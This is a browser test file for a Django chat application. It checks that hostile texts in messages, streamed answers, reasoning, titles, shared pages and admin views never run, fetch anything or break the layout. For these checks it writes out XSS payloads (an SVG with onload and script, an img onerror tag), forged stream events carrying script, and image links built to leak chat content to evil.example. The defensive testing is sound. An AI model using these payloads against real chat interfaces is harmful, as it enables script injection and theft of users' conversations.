"""Texts that mean harm, in the real page: as what a person says, as answers, and in history.

S15 to S19 of the known weaknesses of chats: whatever stands in a text, nothing of it runs, is
fetched, is drawn outside of its message or takes the place of anything on the page.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any
from uuid import UUID, uuid4

import pytest
from django.contrib.auth.models import Group, User
from playwright.sync_api import Error, Page, expect

from chat.models import Conversation, Message
from chat.models.conversation import TITLE_LENGTH
from tests.browser.application import Application
from tests.browser.chat import Chat
from tests.browser.conftest import OpenPage, PageErrors
from tests.browser.model_server import ModelServer
from tests.browser.static_site import PROJECT
from tests.browser.test_administration import say_why
from tests.scripted_model import event, finish, text

TEXTS = [
    entry["text"] for entry in json.loads((PROJECT / "tests/fixtures/hostile.json").read_text())
]
IN_A_CHAT = 15  # texts, so that a page shows all of it
TABS = 6  # of a person each, who may say 60 messages in a minute
EVIL = "https://evil.example"
# What a hostile text would call, and where the browser tells of what it refused.
TRAPS = """
    window.runs = []; window.ran = () => runs.push(new Error().stack);
    for (const name of ["alert", "confirm", "prompt", "open"]) window[name] = window.ran;
    window.refused = [];
    addEventListener("securitypolicyviolation", (event) => refused.push(event.violatedDirective));
"""
BREACHES = (PROJECT / "tests/browser/breaches.mjs").read_text().replace("export ", "")
SAY_ALL = """(texts) => {
    const box = document.getElementById("message");
    const answers = () => [...document.querySelectorAll(".thread [data-role=assistant]")];
    const isDone = (count) =>
        answers().length === count && answers().at(-1).dataset.status !== "streaming";
    const say = async (text, index) => {
        window.saying = text.slice(0, 80);
        box.value = text;
        box.dispatchEvent(new Event("input", { bubbles: true }));
        box.form.requestSubmit();
        while (!isDone(index + 1)) await new Promise((done) => setTimeout(done, 10));
    };
    const all = texts.reduce((said, text, at) => said.then(() => say(text, at)), Promise.resolve());
    all.then(() => (window.hasSaidAll = true));
}"""
FURNITURE = """({ onTop, named }) => {
    const count = (selector) => document.querySelectorAll(selector).length;
    const known = "script link style meta base iframe template img video object [onload]";
    const topmost = (selector) => {
        const { x, y, width, height } = document.querySelector(selector).getBoundingClientRect();
        return document.elementFromPoint(x + width / 2, y + height / 2)?.closest(selector) !== null;
    };
    return {
        counts: Object.fromEntries(known.split(" ").map((name) => [name, count(name)])),
        names: [...document.querySelectorAll(named)].map((e) => e.id || e.name).sort(),
        isOnTop: onTop.map(topmost),
        children: document.body.childElementCount,
        wide: document.documentElement.scrollWidth > innerWidth,
        polluted: "polluted" in {},
        title: document.documentElement.lang,
    };
}"""
FOUND = f"""() => {{
    {BREACHES}
    const said = [...document.querySelectorAll("message-text")];
    const log = document.querySelector(".log") ?? document.documentElement;
    return {{
        runs, refused,
        breaches: said.map((element) => [element.textContent.slice(0, 60), breaches(element)])
            .filter(([, list]) => list.length > 0),
        wide: log.scrollWidth > log.clientWidth,
    }};
}}"""
#: What stands above all on each kind of page, and whose names count: a text's own change nothing.
CHAT = {"onTop": [".top h1", "#message", ".composer .send"], "named": "[id], [name]"}
SHARED = {"onTop": [".shared-head .brand", "h1"], "named": "header [id], header [name]"}
TRANSCRIPT = {"onTop": ["#site-name, .site", "h1"], "named": "header [id], header [name]"}
SHARE = """async () => {
    const token = document.querySelector("[name=csrfmiddlewaretoken]").value;
    const headers = { "X-CSRFToken": token };
    const answer = await fetch(`${location.pathname}share/`, { method: "POST", headers });
    return (await answer.json()).address;
}"""
NOTHING: dict[str, Any] = {"runs": [], "refused": [], "breaches": [], "wide": False}


@pytest.fixture
def chat(page: Page) -> Chat:
    """Alice's page, with nothing said."""
    return Chat(page)


class Witness:
    """One page, and what it asked other hosts for."""

    def __init__(self, page: Page, url: str) -> None:
        self.page = page
        self.elsewhere: list[str] = []
        self._url = url
        page.add_init_script(TRAPS)
        page.on("request", lambda request: self._note(request.url))
        page.goto(url)
        expect(page.locator(".composer[data-ready]")).to_be_attached()
        self._kind = CHAT
        self._furniture = {str(CHAT): page.evaluate(FURNITURE, CHAT)}

    def say_all(self, texts: list[str]) -> None:
        """Begin a new chat and say these in it, each when the last one was answered."""
        self._kind = CHAT
        self.page.goto(self._url)
        expect(self.page.locator(".composer[data-ready]")).to_be_attached()
        self.page.evaluate(SAY_ALL, texts)

    def read(self, address: str, kind: dict[str, Any], answers: int) -> None:
        """Open another page with what was said. The first of its kind has nothing hostile."""
        self._kind = kind
        self.page.goto(address)
        expect(self.page.locator(".thread message-text.said")).to_have_count(answers)
        if str(kind) not in self._furniture:
            self._furniture[str(kind)] = self.page.evaluate(FURNITURE, kind)

    def wait(self) -> None:
        """Wait until all of it was answered."""
        try:
            self.page.wait_for_function("() => window.hasSaidAll", timeout=60_000)
        except Error:
            pytest.fail(f"No answer to {self.page.evaluate('saying')!r}")

    def check(self) -> None:
        """Nothing of what the page shows has run, left its place or been sent anywhere."""
        self.page.wait_for_timeout(300)  # formulas and code are drawn meanwhile
        assert self.page.evaluate(FOUND) == NOTHING
        assert self.page.evaluate(FURNITURE, self._kind) == self._furniture[str(self._kind)]
        assert self.elsewhere == []

    def _note(self, url: str) -> None:
        if not url.startswith((f"{self._url}/", "data:")):
            self.elsewhere.append(url)


@pytest.mark.timeout(900)  # some hundred pages, of texts that are said one after the other
def test_s15_no_hostile_text_runs_fetches_or_leaves_its_message(
    server: Application, open_page: OpenPage, model: ModelServer
):
    """S15: what is said, what is answered in pieces, and both as they are read later.

    By the person, by who opens a link to it, and by who audits.
    """
    assert len(TEXTS) >= 250
    for answer in ["Hello."] * TABS + TEXTS:
        model.says(answer, piece=max(1, -(-len(answer) // 3)), pause=0.02)
    tabs = [Witness(open_page(person=server.person()), server.url) for _ in range(TABS)]
    auditor = Witness(open_page(person=_auditor(server)), server.url)
    say_why(auditor.page, server)
    chats = [TEXTS[at : at + IN_A_CHAT] for at in range(0, len(TEXTS), IN_A_CHAT)]
    chats = [["Hello?"]] * TABS + chats
    for start in range(0, len(chats), TABS):
        busy = list(zip(tabs, chats[start:], strict=False))
        for tab, chat in busy:
            tab.say_all(chat)
        for tab, chat in busy:
            tab.wait()
            expect(tab.page.locator(".thread > li")).to_have_count(2 * len(chat))
            tab.check()
            tab.page.reload()
            expect(tab.page.locator(".thread > li")).to_have_count(2 * len(chat))
            tab.check()
            pk = tab.page.url.split("/")[-2]
            tab.read(tab.page.evaluate(SHARE), SHARED, len(chat))
            tab.check()
            auditor.read(
                f"{server.url}/admin/chat/conversation/{pk}/change/", TRANSCRIPT, len(chat)
            )
            auditor.check()


@pytest.mark.timeout(300)
def test_s17_hostile_reasoning_and_titles_do_nothing_either(
    server: Application, open_page: OpenPage
):
    """S15 and S17: what a model thought and called a conversation, as they are read later."""
    person = server.person()
    reader = Witness(open_page(person=person), server.url)
    for at in range(0, len(TEXTS), IN_A_CHAT):
        texts = [_storable(each) for each in TEXTS[at : at + IN_A_CHAT]]
        reader.page.goto(f"{server.url}/c/{_thought(server, person, texts)}/")
        thoughts = reader.page.locator("details.think")
        expect(thoughts).to_have_count(len(texts))
        for thought in thoughts.all():
            thought.evaluate("(details) => { details.open = true; }")
        listed = reader.page.get_by_role("navigation", name="Conversations").get_by_role("link")
        assert listed.count() >= len(texts)
        reader.check()


def _storable(words: str) -> str:
    """Without what is no character."""
    return words.encode(errors="replace").decode().replace("\0", "")


def _thought(server: Application, person: User, texts: list[str]) -> UUID:
    """A conversation in which each of these was thought, and others that are called so."""
    with server.database() as alias:
        called = [
            Conversation(id=uuid4(), owner=person, title=each[:TITLE_LENGTH]) for each in texts
        ]
        Conversation.objects.using(alias).bulk_create(called)
        talk, leaf = called[-1], None
        for each in texts:
            for role, reasoning in (("user", ""), ("assistant", each)):
                leaf = Message.objects.using(alias).create(
                    id=uuid4(),
                    conversation=talk,
                    parent=leaf,
                    role=role,
                    text="Hm.",
                    reasoning=reasoning,
                    status="complete",
                )
        Conversation.objects.using(alias).filter(pk=talk.pk).update(leaf=leaf)
        return talk.pk


def _auditor(server: Application) -> User:
    auditor = server.person()
    with server.database() as alias:
        auditor.groups.add(Group.objects.using(alias).get(name="auditor"))
    return auditor


def test_s16_a_page_or_drawing_in_an_answer_is_saved_and_never_opened(
    chat: Chat, server: Application, model: ModelServer
):
    """S16: one renderer; HTML and SVG reach the reader as text and as files of text."""
    svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="ran()"><script>ran()</script></svg>'
    model.says(f"```svg\n{svg}\n```\n\n{svg}", piece=40)
    chat.say("Draw")
    chat.wait_for_status("complete")
    expect(chat.answer.locator("message-text.said > p")).to_have_text(svg)
    assert chat.answer.locator("svg:not([aria-hidden])").count() == 0
    with chat.page.expect_download() as download:
        chat.answer.get_by_role("button", name="Download code").click()
    assert download.value.suggested_filename == "code.xml"
    assert Path(download.value.path()).read_text() == svg + "\n"
    assert len(chat.page.context.pages) == 1
    assert chat.page.request.get(server.url).headers["x-content-type-options"] == "nosniff"


def test_s17_what_no_chat_knows_in_a_stream_is_dropped(chat: Chat, model: ModelServer):
    """S17: the model server is not trusted; events of other kinds do nothing."""
    unknown = [
        b'event: execute\ndata: {"type": "execute", "code": "ran()"}\n\n',
        b'data: {"type": "chat:script", "data": {"content": "ran()"}, "choices": []}\n\n',
        event({"choices": [{"delta": {"html": "<img src=x onerror=ran()>"}}]}),
        event({"choices": [{"delta": {"tool_calls": [{"function": {"name": "ran"}}]}}]}),
        event({"choices": [{"delta": {"content": {"type": "html", "html": "<b>"}}}]}),
        event({"redirect": EVIL, "script": "ran()", "choices": []}),
        b"retry: 1\nid: <script>\n: ran()\n\n",
    ]
    model.plays(text("Only "), *unknown, text("words."), finish())
    chat.page.evaluate(TRAPS)
    chat.say("Go")
    chat.wait_for_status("complete")
    expect(chat.answer.locator("message-text.said")).to_have_text("Only words.")
    assert chat.page.evaluate("[runs, refused]") == [[], []]


def test_s18_what_is_pasted_and_stored_is_text(chat: Chat, model: ModelServer):
    """S18: HTML from the clipboard, a draft of before, a title: shown as they are written."""
    markup = '<img src=x onerror="ran()"><b>bold</b>'
    page = chat.page
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    page.evaluate(TRAPS)
    page.evaluate(
        """async (markup) => navigator.clipboard.write([new ClipboardItem({
            "text/html": new Blob(["<b>bold</b>"], { type: "text/html" }),
            "text/plain": new Blob([markup], { type: "text/plain" }),
        })])""",
        markup,
    )
    chat.box.focus()
    page.keyboard.press("Control+V")
    expect(chat.box).to_have_value(markup)
    page.reload()
    page.evaluate(TRAPS)
    expect(chat.box).to_have_value(markup)  # the draft
    page.get_by_role("button", name="Send", exact=True).click()
    chat.wait_for_status("complete")
    expect(chat.turns.last.locator("message-text")).to_have_text(markup)
    conversations = page.get_by_role("navigation", name="Conversations")
    expect(conversations.get_by_role("link").first).to_contain_text("<img src=x")
    assert page.locator("main img, main b, nav img, nav b").count() == 0
    assert page.evaluate("[runs, refused]") == [[], []]


@pytest.mark.parametrize("how", ["inline", "by reference"])
def test_s19_an_image_is_a_link_and_is_never_fetched(
    chat: Chat, model: ModelServer, page_errors: PageErrors, how: str
):
    """S19: no click, no request, so that no address can carry away what was said."""
    asked: list[str] = []
    chat.page.on("request", lambda request: asked.append(request.url))
    address = f"{EVIL}/?q=secret"
    image = {
        "inline": f"![a picture]({address})",
        "by reference": f"![a picture][i]\n\n[i]: {address}",
    }
    model.says(f"See {image[how]}", piece=3, pause=0.001)
    chat.say("Show me")
    chat.wait_for_status("complete")
    link = chat.answer.get_by_role("link", name="a picture")
    expect(link).to_have_attribute("href", address)
    expect(link).to_have_attribute("rel", "noopener noreferrer nofollow")
    chat.page.reload()
    expect(link).to_be_visible()
    assert [url for url in asked if "evil" in url] == []
